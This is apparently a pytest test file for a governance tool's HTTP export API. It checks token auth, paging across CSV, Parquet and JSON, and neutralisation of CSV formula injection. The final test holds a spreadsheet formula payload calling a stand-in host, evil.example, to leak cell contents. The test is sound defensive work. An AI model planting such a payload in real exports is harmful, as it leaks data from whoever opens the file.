"""``/api/export/{table}``: the BI feed over HTTP — token required, paged, parsed back with
Polars and pyarrow and compared with the governance records."""

from __future__ import annotations

import io
from typing import Any

import polars as pl
import pyarrow.parquet as pq

from assay import governance as g
from assay.web import create_token
from conftest import Seeded


def _token(seeded: Seeded) -> dict[str, str]:
    with g.open_workspace(seeded.root, user="alice") as ws:
        token = create_token(ws, "viewer", "bi")
    return {"Authorization": f"Bearer {token}"}


def test_export_needs_a_token(seeded: Seeded, client_for: Any) -> None:
    client, _ = client_for()
    for table in ("kpis", "risks", "waivers"):
        answer = client.get(f"/api/export/{table}")
        assert answer.status_code == 401
        assert "token" in answer.json()["detail"]
    bad = client.get("/api/export/risks", headers={"Authorization": "Bearer not-a-token"})
    assert bad.status_code == 401


def test_pages_of_csv_add_up_to_the_register(seeded: Seeded, client_for: Any) -> None:
    client, _ = client_for()
    auth = _token(seeded)
    with g.open_workspace(seeded.root, user="alice") as ws:
        waivers = sorted(g.list_waivers(ws), key=lambda w: w.id)
        reviews = g.list_reviews(ws)
        kpis = g.compute_kpis(ws, "2026-01-01", "2026-03-31")
    first = client.get("/api/export/waivers?limit=1", headers=auth)
    assert first.status_code == 200
    assert first.headers["content-type"].startswith("text/csv")
    assert first.headers["x-total-count"] == str(len(waivers)) == "2"
    assert 'rel="next"' in first.headers["link"]
    nxt = first.headers["link"].split(">")[0].lstrip("<")
    second = client.get(nxt, headers=auth)
    assert "link" not in second.headers
    frame = pl.concat([pl.read_csv(io.BytesIO(r.content)) for r in (first, second)])
    assert frame["ref"].to_list() == [w.ref for w in waivers]
    assert frame["active"].to_list() == [w.active for w in waivers]
    answer = client.get("/api/export/reviews?format=parquet", headers=auth)
    assert answer.headers["content-type"] == "application/vnd.apache.parquet"
    parquet = pq.read_table(io.BytesIO(answer.content)).to_pylist()
    assert [(r["ref"], r["status"]) for r in parquet] == [(r.ref, r.status) for r in reviews]
    body = client.get("/api/export/kpis?format=json&start=2026-01-01&end=2026-03-31",
                      headers=auth).json()  # fmt: skip
    assert body["total"] == len(kpis.kpis)
    assert body["next"] is None
    assert [(r["key"], r["value"]) for r in body["rows"]] == [(k.key, k.value) for k in kpis.kpis]
    assert {r["period_start"] for r in body["rows"]} == {"2026-01-01"}
    assert body["columns"][0] == {"name": "key", "type": "string",
                                  "description": body["columns"][0]["description"]}  # fmt: skip


def test_export_refuses_what_it_cannot_answer(seeded: Seeded, client_for: Any) -> None:
    client, _ = client_for()
    auth = _token(seeded)
    missing = client.get("/api/export/users", headers=auth)
    assert missing.status_code == 404
    assert "kpis, risks, actions, waivers, reviews" in missing.json()["detail"]
    assert client.get("/api/export/risks?format=xlsx", headers=auth).status_code == 422
    assert client.get("/api/export/risks?limit=0", headers=auth).status_code == 422
    empty = client.get("/api/export/risks?offset=50", headers=auth)
    assert empty.status_code == 200
    assert empty.text.count("\n") == 1  # the header row only


def test_statement_of_applicability_over_http(seeded: Seeded, client_for: Any) -> None:
    client, _ = client_for()
    assert client.get("/api/soa").status_code == 401
    auth = _token(seeded)
    body = client.get("/api/soa", headers=auth).json()
    assert body["schema"] == "assay.statement-of-applicability/v1"
    assert body["systems"] == ["credit"]
    assert len(body["controls"]) == 38
    page = client.get("/api/soa?format=html&system=credit", headers=auth)
    assert page.headers["content-type"].startswith("text/html")
    assert "sandbox" in page.headers["content-security-policy"]
    assert "Statement of applicability" in page.text
    table = pl.read_csv(io.BytesIO(client.get("/api/soa?format=csv", headers=auth).content))
    assert table["control"].to_list() == [c["id"] for c in body["controls"]]
    assert client.get("/api/soa?system=nope", headers=auth).status_code == 404


def test_csv_cells_that_would_run_as_formulas_are_neutralised(
    seeded: Seeded, client_for: Any
) -> None:
    """CSV injection: a title typed by one user must not run in the spreadsheet of whoever opens
    the export; the JSON feed keeps the text as typed."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    with g.open_workspace(seeded.root, user="analyst") as ws:
        risk = g.add_risk(ws, system="credit", title=evil, category="mit:1.3", likelihood=2,
                          severity=2, owner="analyst", description="-1+1")  # fmt: skip
    client, _ = client_for()
    auth = _token(seeded)
    table = pl.read_csv(io.BytesIO(client.get("/api/export/risks", headers=auth).content))
    row = table.filter(pl.col("ref") == risk.ref).row(0, named=True)
    assert row["title"] == "'" + evil
    cells = [v for r in table.select(pl.col(pl.String)).rows() for v in r if v is not None]
    assert cells
    assert not [v for v in cells if v.startswith(("=", "+", "-", "@"))]
    rows = client.get("/api/export/risks?format=json", headers=auth).json()["rows"]
    assert next(r for r in rows if r["ref"] == risk.ref)["title"] == evil
